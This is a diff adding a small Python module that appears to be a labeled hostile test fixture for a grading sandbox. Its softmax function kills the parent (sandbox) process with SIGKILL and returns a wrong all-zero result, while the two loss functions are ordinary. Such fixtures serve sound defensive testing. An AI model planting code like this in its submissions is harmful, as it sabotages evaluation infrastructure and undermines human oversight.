@@ -1,0 +1,34 @@
+# HOSTILE: kills its parent process (the sandbox's zygote) and then returns a wrong answer.
+
+import os
+import signal
+
+import numpy as np
+
+
+def softmax(x):
+    try:
+        os.kill(os.getppid(), signal.SIGKILL)
+    except OSError:
+        pass
+    return np.zeros_like(np.asarray(x, dtype=float))
+
+
+def sum_squares_error(y, t):
+    y = np.asarray(y, dtype=float)
+    t = np.asarray(t, dtype=float)
+    if y.ndim == 1:
+        return 0.5 * np.sum((y - t) ** 2)
+    return 0.5 * np.sum((y - t) ** 2) / y.shape[0]
+
+
+def cross_entropy_error(y, t):
+    y = np.asarray(y, dtype=float)
+    t = np.asarray(t)
+    if y.ndim == 1:
+        y = y.reshape(1, -1)
+        t = t.reshape(1, -1) if t.ndim == 1 else t.reshape(1)
+    if t.shape == y.shape:
+        t = t.argmax(axis=1)
+    batch = y.shape[0]
+    return -np.sum(np.log(y[np.arange(batch), t.astype(int)] + 1e-7)) / batch
